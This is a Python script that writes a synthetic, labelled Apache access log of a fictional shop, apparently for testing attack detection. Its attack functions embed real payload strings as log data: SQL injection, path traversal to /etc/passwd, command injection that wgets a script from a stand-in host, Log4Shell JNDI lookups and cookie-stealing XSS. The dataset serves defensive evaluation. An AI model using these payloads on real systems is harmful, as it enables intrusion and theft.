#!/usr/bin/env python3
"""Writes a realistic Apache combined access log with known, labelled attacks in it.

Days of a small web shop. Normal traffic: visitors following a daily rhythm, a few of
them regulars (Zipf-like), each page pulling its assets; search engine crawlers; a NAT
gateway with many people behind one address; an uptime monitor; customers downloading a
large installer; an API client whose token expires now and then.

Attacks, each from its own address, the subtle ones included:

  scanning              a Nikto scan; a slow directory scan in a browser's clothing
  sensitive_file_probe  a handful of requests for /.env, /.git/config and backups
  brute_force           a password burst that ends in a success; a low-and-slow campaign
  sql_injection         sqlmap; a few hand-typed injections
  path_traversal        plain and percent-encoded climbs to /etc/passwd
  command_injection     shell commands in a ping form
  log4shell             ${jndi:} in the User-Agent
  xss                   script in the search box
  request_flood         fifteen hundred searches in five minutes
  data_exfiltration     a bulk export of customer data at night
  off_hours             an admin panel used at 3 a.m., which nobody else does
  error_burst           a client hammering an endpoint that keeps failing

and a few lines a real log has that are not requests: one cut off mid-line, one
timestamp with nothing after it, one note from a log rotation script.

With --labels FILE, writes `line,client,kind` for every attack line (1-based line
numbers of the log as written). With --json, writes each request as Caddy's JSON access
log would (the malformed lines stay as they are). Deterministic for a given seed and size.
Usage:

    python3 scripts/generate_access_log.py > example_logs/access_combined.log
    python3 scripts/generate_access_log.py --days 5 --visits 6000 --labels labels.csv > eval.log
    python3 scripts/generate_access_log.py --json > example_logs/access_caddy.jsonl
    python3 scripts/generate_access_log.py --style common --days 1 --visits 120 > example_logs/access_common.log
"""

import argparse
import datetime as dt
import json
import random
import re
import sys

TZ = dt.timezone(dt.timedelta(hours=1))
START = dt.datetime(2024, 3, 11, 0, 0, 0, tzinfo=TZ)

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.105 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.80",
    "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
]
CRAWLERS = [
    ("192.0.2.66", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("192.0.2.67", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
]
PAGES = ["/", "/products", "/products?page=2", "/about", "/contact", "/cart", "/checkout", "/account"]
ASSETS = [("/static/css/site.css", 18_344), ("/static/js/app.js", 92_118), ("/favicon.ico", 1_150)]
SEARCH_TERMS = ["boots", "red+jacket", "gift+card", "wool+socks", "rain+coat", "sale", "o'neill+jacket",
                "%22winter+boots%22", "black+or+white"]

# Share of the daily traffic in each hour of the day, a typical shop's rhythm.
HOURLY_WEIGHT = [1, 1, 1, 1, 1, 2, 4, 6, 8, 9, 10, 10, 11, 10, 10, 10, 10, 11, 12, 12, 10, 7, 4, 2]

NORMAL = None  # the label of ordinary traffic


def clf_time(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S %z")


def line(ip, t, request, status, size, referer="-", agent="-", user="-", label=NORMAL):
    size_field = "-" if size is None else str(size)
    text = f'{ip} - {user} [{clf_time(t)}] "{request}" {status} {size_field} "{referer}" "{agent}"'
    return (t, text, ip, label)


class Shop:
    """Generates one log: normal traffic sized by days and visits, plus every attack."""

    def __init__(self, seed, days, visits):
        self.rng = random.Random(seed)
        self.days = days
        self.visits = visits

    def random_time(self):
        day = self.rng.randrange(self.days)
        hour = self.rng.choices(range(24), weights=HOURLY_WEIGHT)[0]
        return START + dt.timedelta(days=day, hours=hour, seconds=self.rng.randrange(3600))

    def visitor_ips(self, count):
        """Documentation addresses: IPv4 from the three TEST-NETs, then IPv6 (2001:db8::/32)."""
        nets = ["203.0.113.", "198.51.100.", "192.0.2."]
        taken = {ip for ip, _ in CRAWLERS} | set(ATTACKER_IPS) | set(SPECIAL_IPS)
        ipv4 = [net + str(host) for net in nets for host in range(2, 255) if net + str(host) not in taken]
        self.rng.shuffle(ipv4)
        ips = set(ipv4[: count * 2 // 3])
        while len(ips) < count:
            ips.add(f"2001:db8:{self.rng.randrange(0x10000):x}::{self.rng.randrange(1, 0x10000):x}")
        return sorted(ips)

    def visit(self, ip, agent, t=None):
        """A browsing session: a few pages, each pulling its assets."""
        rng = self.rng
        t = t or self.random_time()
        out = []
        referer = rng.choice(["-", "https://www.google.com/", "https://duckduckgo.com/"])
        for _ in range(rng.randint(1, 6)):
            page = rng.choice(PAGES + [f"/products/{rng.randint(100, 180)}", f"/search?q={rng.choice(SEARCH_TERMS)}"])
            status = 200 if rng.random() > 0.03 else 404
            out.append(line(ip, t, f"GET {page} HTTP/1.1", status, rng.randint(3_000, 40_000), referer, agent))
            for path, size in ASSETS:
                t += dt.timedelta(seconds=rng.randint(0, 1))
                cached = rng.random() < 0.4
                out.append(line(ip, t, f"GET {path} HTTP/1.1", 304 if cached else 200, None if cached else size,
                                "https://shop.example" + page, agent))
            if page.startswith("/products/"):
                img = f"/static/img/p{page.rsplit('/', 1)[1]}.jpg"
                out.append(line(ip, t, f"GET {img} HTTP/1.1", 200, rng.randint(40_000, 250_000),
                                "https://shop.example" + page, agent))
            if page == "/account" and rng.random() < 0.5:
                # Logging in, now and then with a typo first.
                if rng.random() < 0.2:
                    out.append(line(ip, t, "POST /login HTTP/1.1", 200, 3_100, "https://shop.example/login", agent))
                out.append(line(ip, t, "POST /login HTTP/1.1", 302, 0, "https://shop.example/login", agent))
            referer = "https://shop.example" + page
            t += dt.timedelta(seconds=rng.randint(5, 120))
        return out

    def normal_traffic(self):
        rng = self.rng
        ips = self.visitor_ips(max(60, self.visits // 3))
        agent_of = {ip: rng.choice(BROWSERS) for ip in ips}
        # Zipf-like: a few regulars make many of the visits.
        weights = [1 / (rank + 1) for rank in range(len(ips))]
        records = []
        for ip in rng.choices(ips, weights=weights, k=self.visits):
            records += self.visit(ip, agent_of[ip])
        records += self.nat_gateway()
        records += self.crawlers()
        records += self.uptime_monitor()
        records += self.big_downloads(ips)
        records += self.api_client()
        return records

    def nat_gateway(self):
        """An office behind one address: many people, many browsers, the odd failed login."""
        records = []
        for _ in range(self.visits // 6):
            records += self.visit(NAT_IP, self.rng.choice(BROWSERS))
        return records

    def crawlers(self):
        rng = self.rng
        out = []
        for ip, agent in CRAWLERS:
            out.append(line(ip, self.random_time(), "GET /robots.txt HTTP/1.1", 200, 112, "-", agent))
            for _ in range(rng.randint(20, 40) * self.days):
                page = rng.choice(PAGES[:5] + [f"/products/{rng.randint(100, 180)}", f"/old-page-{rng.randint(1, 9)}"])
                status = 404 if page.startswith("/old-page") else 200
                out.append(line(ip, self.random_time(), f"GET {page} HTTP/1.1", status, rng.randint(3_000, 40_000), "-", agent))
        return out

    def uptime_monitor(self):
        """A health check every minute, day and night: busy and regular, not an attack."""
        agent = "UptimeRobot/2.0 (http://www.uptimerobot.com/)"
        return [line(MONITOR_IP, START + dt.timedelta(minutes=m), "GET /health HTTP/1.1", 200, 2, "-", agent)
                for m in range(0, self.days * 24 * 60, 1)]

    def big_downloads(self, ips):
        """Customers fetching the 700 MB installer: huge responses that are legitimate."""
        rng = self.rng
        return [line(ip, self.random_time(), "GET /downloads/shop-app-2.3.dmg HTTP/1.1", 200,
                     rng.randint(700_000_000, 720_000_000), "https://shop.example/download", rng.choice(BROWSERS))
                for ip in rng.sample(ips, min(12, len(ips)))]

    def api_client(self):
        """A partner's integration: steady API calls, a 401 when its token expires, then renewal."""
        rng = self.rng
        agent = "partner-sync/3.1 (+https://partner.example)"
        out = []
        t = START + dt.timedelta(minutes=7)
        while t < START + dt.timedelta(days=self.days):
            if rng.random() < 0.02:
                out.append(line(API_IP, t, "GET /api/v1/orders?since=1h HTTP/1.1", 401, 40, "-", agent))
                out.append(line(API_IP, t + dt.timedelta(seconds=1), "POST /api/v1/auth/token HTTP/1.1", 200, 512, "-", agent))
            out.append(line(API_IP, t + dt.timedelta(seconds=2), "GET /api/v1/orders?since=1h HTTP/1.1", 200,
                            rng.randint(2_000, 30_000), "-", agent))
            t += dt.timedelta(minutes=15)
        return out

    # --- Attacks -------------------------------------------------------------------------

    def attacks(self):
        records = []
        for attack in (self.nikto_scan, self.slow_scan, self.probes, self.brute_force, self.low_and_slow,
                       self.sqlmap, self.manual_sqli, self.path_traversal, self.command_injection,
                       self.log4shell, self.xss, self.flood, self.exfiltration, self.off_hours_admin,
                       self.error_burst):
            records += attack()
        return records

    def nikto_scan(self):
        rng = self.rng
        ip, agent = ATTACKER_IPS[0], "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"
        probes = [
            "/.env", "/.git/config", "/.git/HEAD", "/wp-admin/", "/wp-login.php", "/phpmyadmin/", "/admin/",
            "/backup.sql", "/backup.zip", "/db.sql", "/config.php.bak", "/.htpasswd", "/server-status",
            "/cgi-bin/test.cgi", "/.DS_Store", "/web.config", "/admin/config.php", "/install.php",
            "/.aws/credentials", "/api/v1/debug", "/console", "/actuator/env", "/.svn/entries", "/old/",
        ]
        t = START + dt.timedelta(hours=3, minutes=12)
        out = []
        for i in range(150):
            path = probes[i % len(probes)] + ("" if i < len(probes) else f"?nikto={i}")
            status = 403 if path.startswith("/server-status") else 404
            out.append(line(ip, t, f"GET {path} HTTP/1.1", status, rng.randint(150, 300), "-", agent, label="scanning"))
            t += dt.timedelta(milliseconds=rng.randint(200, 900))
        return out

    def slow_scan(self):
        """A directory scan at one request every few minutes, dressed as Chrome."""
        rng = self.rng
        ip = ATTACKER_IPS[1]
        words = ["admin", "old", "test", "dev", "staging", "private", "tmp", "uploads", "files", "api2",
                 "v0", "internal", "debug", "beta", "manage", "panel", "cms", "shop-old", "sql", "logs",
                 "conf", "include", "lib", "src", "vendor", "install", "setup", "temp", "cache", "bin"]
        t = START + dt.timedelta(hours=9)
        out = []
        for word in words:
            out.append(line(ip, t, f"GET /{word}/ HTTP/1.1", 404, 210, "-", BROWSERS[0], label="scanning"))
            t += dt.timedelta(minutes=rng.randint(3, 9))
        return out

    def probes(self):
        ip = ATTACKER_IPS[2]
        t = START + dt.timedelta(hours=17, minutes=2)
        paths = ["/.env", "/.git/config", "/backup.zip", "/wp-config.php.bak", "/.aws/credentials"]
        return [line(ip, t + dt.timedelta(seconds=9 * i), f"GET {p} HTTP/1.1", 404, 196, "-", "curl/7.88.1",
                     label="sensitive_file_probe") for i, p in enumerate(paths)]

    def brute_force(self):
        rng = self.rng
        ip, agent = ATTACKER_IPS[3], "python-requests/2.31.0"
        t = START + dt.timedelta(hours=14, minutes=20)
        out = []
        for _ in range(60):
            out.append(line(ip, t, "POST /login HTTP/1.1", 401, 43, "-", agent, label="brute_force"))
            t += dt.timedelta(seconds=rng.randint(5, 15))
        out.append(line(ip, t, "POST /login HTTP/1.1", 302, 0, "-", agent, label="brute_force"))
        out.append(line(ip, t + dt.timedelta(seconds=1), "GET /account HTTP/1.1", 200, 8_812, "-", agent,
                        user="admin", label="brute_force"))
        return out

    def low_and_slow(self):
        """Thirty guesses spread over a day: never more than two in ten minutes."""
        rng = self.rng
        ip = ATTACKER_IPS[4]
        t = START + dt.timedelta(hours=2)
        out = []
        for _ in range(30):
            out.append(line(ip, t, "POST /wp-login.php HTTP/1.1", 200, 4_120, "-", BROWSERS[1], label="brute_force"))
            t += dt.timedelta(minutes=rng.randint(35, 60))
        return out

    def sqlmap(self):
        rng = self.rng
        ip, agent = ATTACKER_IPS[5], "sqlmap/1.7.2#stable (https://sqlmap.org)"
        payloads = [
            "/products?id=1%27", "/products?id=1%27%20OR%20%271%27%3D%271", "/products?id=1%20AND%201%3D1",
            "/products?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
            "/products?id=1%3BSELECT%20pg_sleep(5)--", "/search?q=%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
            "/search?q=1%27%20AND%20SLEEP(5)%23", "/products?id=-1%27%20OR%203*2*1%3D6%20AND%20000831%3D000831%20--%20",
        ]
        t = START + dt.timedelta(days=1, hours=10, minutes=3)
        out = []
        for i in range(40):
            status = 500 if i % 3 == 0 else 200
            out.append(line(ip, t, f"GET {payloads[i % len(payloads)]} HTTP/1.1", status, rng.randint(300, 9_000),
                            "-", agent, label="sql_injection"))
            t += dt.timedelta(seconds=rng.randint(1, 4))
        return out

    def manual_sqli(self):
        """A person trying injections by hand, from an ordinary browser."""
        ip = ATTACKER_IPS[6]
        t = START + dt.timedelta(hours=19, minutes=40)
        payloads = ["/products/120?ref=1%27%20or%20%271%27%3D%271", "/search?q=x%27%20union%20select%20email%2Cpassword%20from%20customers--%20"]
        return [line(ip, t + dt.timedelta(minutes=2 * i), f"GET {p} HTTP/1.1", 200, 4_400, "-", BROWSERS[2],
                     label="sql_injection") for i, p in enumerate(payloads)]

    def path_traversal(self):
        rng = self.rng
        ip, agent = ATTACKER_IPS[7], BROWSERS[2]
        attempts = [
            "/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/static/..%252f..%252f..%252fetc%252fpasswd", "/download?file=....//....//....//etc/shadow",
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
        ]
        t = START + dt.timedelta(days=1, hours=11, minutes=41)
        out = []
        for path in attempts * 2:
            out.append(line(ip, t, f"GET {path} HTTP/1.1", rng.choice([400, 404]), rng.randint(150, 400), "-", agent,
                            label="path_traversal"))
            t += dt.timedelta(seconds=rng.randint(2, 20))
        return out

    def command_injection(self):
        ip = ATTACKER_IPS[8]
        t = START + dt.timedelta(hours=22, minutes=15)
        payloads = ["/tools/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "/tools/ping?host=127.0.0.1%7Cid",
                    "/tools/ping?host=%24(whoami)", "/tools/ping?host=1.1.1.1%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh"]
        return [line(ip, t + dt.timedelta(seconds=20 * i), f"GET {p} HTTP/1.1", 200, 1_020, "-", "curl/8.5.0",
                     label="command_injection") for i, p in enumerate(payloads)]

    def log4shell(self):
        ip = ATTACKER_IPS[9]
        t = START + dt.timedelta(hours=21, minutes=4)
        agents = ["${jndi:ldap://198.51.100.9:1389/Exploit}", "${${lower:j}ndi:${lower:r}mi://198.51.100.9/a}"]
        return [line(ip, t + dt.timedelta(seconds=i * 7), "GET / HTTP/1.1", 200, 5_321, "-", agents[i % 2],
                     label="log4shell") for i in range(4)]

    def xss(self):
        rng = self.rng
        ip, agent = ATTACKER_IPS[10], BROWSERS[0]
        payloads = [
            "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
            "/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", "/search?q=javascript%3Aalert(1)",
        ]
        t = START + dt.timedelta(days=1, hours=16, minutes=33)
        return [line(ip, t + dt.timedelta(seconds=i * 11), f"GET {p} HTTP/1.1", 200, rng.randint(4_000, 6_000), "-",
                     agent, label="xss") for i, p in enumerate(payloads * 2)]

    def flood(self):
        """Fifteen hundred searches in five minutes from one address."""
        rng = self.rng
        ip = ATTACKER_IPS[11]
        t = START + dt.timedelta(days=1, hours=13, minutes=5)
        return [line(ip, t + dt.timedelta(milliseconds=200 * i), f"GET /search?q={rng.choice(SEARCH_TERMS)} HTTP/1.1",
                     200, rng.randint(3_000, 9_000), "-", "Go-http-client/1.1", label="request_flood")
                for i in range(1_500)]

    def exfiltration(self):
        rng = self.rng
        ip, agent = ATTACKER_IPS[12], "curl/8.5.0"
        t = START + dt.timedelta(days=1, hours=2, minutes=41)  # 02:41 on the second night
        out = [line(ip, t, "GET /account HTTP/1.1", 200, 8_812, "-", agent, user="j.miller", label="data_exfiltration")]
        for i in range(6):
            out.append(line(ip, t + dt.timedelta(seconds=30 + i * 40), f"GET /export/customers.csv?page={i + 1} HTTP/1.1",
                            200, rng.randint(48_000_000, 61_000_000), "-", agent, user="j.miller",
                            label="data_exfiltration"))
        return out

    def off_hours_admin(self):
        """The admin panel, used at half past three in the morning."""
        ip = ATTACKER_IPS[13]
        t = START + dt.timedelta(hours=3, minutes=31)
        paths = ["/admin/login", "/admin/", "/admin/users", "/admin/users/export", "/admin/settings"]
        return [line(ip, t + dt.timedelta(seconds=40 * i), f"{'POST' if i == 0 else 'GET'} {p} HTTP/1.1",
                     302 if i == 0 else 200, 6_000, "-", BROWSERS[3], user="-" if i == 0 else "ops",
                     label="off_hours") for i, p in enumerate(paths)]

    def error_burst(self):
        """A client hammering a failing endpoint: 300 server errors in five minutes."""
        ip = ATTACKER_IPS[14]
        t = START + dt.timedelta(days=1, hours=15, minutes=20)
        return [line(ip, t + dt.timedelta(seconds=i), "POST /api/v1/checkout HTTP/1.1", 500, 120, "-",
                     "okhttp/4.12.0", label="error_burst") for i in range(300)]

    def generate(self):
        records = self.normal_traffic() + self.attacks()
        records.sort(key=lambda r: r[0])
        rows = [(text, ip, label) for _, text, ip, label in records]

        # Lines real logs have that are not requests, at fixed places.
        at = len(rows) // 3
        cut = rows[at][0]
        rows.insert(at, (cut[: cut.index('" "') + 20], None, NORMAL))  # cut off inside the user agent
        at = len(rows) // 2
        stamp = rows[at][0]
        rows.insert(at, (stamp[: stamp.index("]") + 1], None, NORMAL))  # a timestamp with nothing after
        rows.insert(2 * len(rows) // 3, ("-- logrotate: access.log rotated, compressing access.log.1 --", None, NORMAL))
        return rows


# Addresses with a role, kept apart from the visitors.
ATTACKER_IPS = [
    "198.51.100.23", "203.0.113.41", "192.0.2.99", "203.0.113.77", "198.51.100.61", "192.0.2.150", "203.0.113.88",
    "198.51.100.144", "192.0.2.178", "198.51.100.9", "203.0.113.200", "198.51.100.250", "192.0.2.201",
    "203.0.113.15", "192.0.2.222",
]
NAT_IP = "203.0.113.5"
MONITOR_IP = "192.0.2.10"
API_IP = "198.51.100.70"
SPECIAL_IPS = [NAT_IP, MONITOR_IP, API_IP]


COMBINED = re.compile(r'^(\S+) - (\S+) \[([^\]]+)\] "(\S+) (\S+) (\S+)" (\d{3}) (\S+) "([^"]*)" "(.*)"$')


def as_common(text):
    """A combined line without its referer and user agent; other lines unchanged."""
    match = COMBINED.match(text)
    if not match:
        return text
    return text[: match.end(8)]


def as_werkzeug(text):
    """A combined line as Werkzeug (Flask's dev server) logs it: no zone, no agent."""
    match = COMBINED.match(text)
    if not match:
        return text
    ip, _, time, method, uri, proto, status, size, _, _ = match.groups()
    when = dt.datetime.strptime(time, "%d/%b/%Y:%H:%M:%S %z")
    return f'{ip} - - [{when.strftime("%d/%b/%Y %H:%M:%S")}] "{method} {uri} {proto}" {status} {size}'


def as_caddy_json(text):
    """A combined line as Caddy's JSON access log writes it; other lines unchanged."""
    match = COMBINED.match(text)
    if not match:
        return text
    ip, user, time, method, uri, proto, status, size, referer, agent = match.groups()
    when = dt.datetime.strptime(time, "%d/%b/%Y:%H:%M:%S %z")
    headers = {"User-Agent": [agent]}
    if referer != "-":
        headers["Referer"] = [referer]
    record = {
        "level": "info",
        "ts": when.timestamp(),
        "logger": "http.log.access",
        "msg": "handled request",
        "request": {"remote_ip": ip, "client_ip": ip, "proto": proto, "method": method,
                    "host": "shop.example", "uri": uri, "headers": headers},
        "user_id": "" if user == "-" else user,
        "duration": 0.004,
        "size": 0 if size == "-" else int(size),
        "status": int(status),
    }
    return json.dumps(record, separators=(",", ":"))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--days", type=int, default=2, help="days of traffic")
    parser.add_argument("--visits", type=int, default=300, help="browsing sessions by visitors")
    parser.add_argument("--labels", help="write line,client,kind for every attack line to this file")
    parser.add_argument("--json", action="store_true", help="write requests as Caddy JSON lines")
    parser.add_argument("--style", choices=["combined", "common", "werkzeug"], default="combined",
                        help="common drops referer and user agent; werkzeug is Flask's dev server")
    args = parser.parse_args()
    rows = Shop(args.seed, args.days, args.visits).generate()
    render = {"combined": lambda text: text, "common": as_common, "werkzeug": as_werkzeug}[args.style]
    if args.json:
        render = as_caddy_json
    sys.stdout.write("".join(render(text) + "\n" for text, _, _ in rows))
    if args.labels:
        with open(args.labels, "w", encoding="utf-8") as labels:
            labels.write("line,client,kind\n")
            for number, (_, ip, label) in enumerate(rows, start=1):
                if label is not NORMAL:
                    labels.write(f"{number},{ip},{label}\n")


if __name__ == "__main__":
    main()
